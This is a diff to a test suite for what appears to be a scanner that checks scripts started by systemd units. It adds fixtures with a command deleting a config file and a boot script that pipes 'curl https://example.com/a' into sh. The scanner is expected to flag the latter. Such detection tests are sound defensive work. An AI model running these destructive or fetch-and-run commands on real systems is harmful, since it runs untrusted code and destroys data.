@@ -73,6 +73,7 @@ describe('scripts that a unit starts', () => {
       'python3 /opt/edit.py',
       { '/opt/edit.py': `open("${CONFIG}", "w")\n` },
     ],
+    ['a file after options of a shell', 'sh -eux /opt/input', { '/opt/input': `rm ${CONFIG}\n` }],
     ['what the shell reads', 'bash < /opt/input', { '/opt/input': `rm ${CONFIG}\n` }],
     [
       'the hundred and first script',
@@ -162,6 +163,14 @@ describe('scripts that a unit starts', () => {
         '/usr/bin/x': { unreadable: 'x' },
       },
       [],
+    ],
+    [
+      'a download by a script in a folder of the distribution, which a unit of the image starts',
+      {
+        ...unit('ExecStart=/usr/bin/prepare'),
+        '/usr/bin/prepare': { content: '#!/bin/sh\ncurl https://example.com/a | sh\n', mode: 0o755 },
+      },
+      ['boot-runs-download /usr/bin/prepare:2'],
     ],
     [
       'a download by a unit of the distribution',
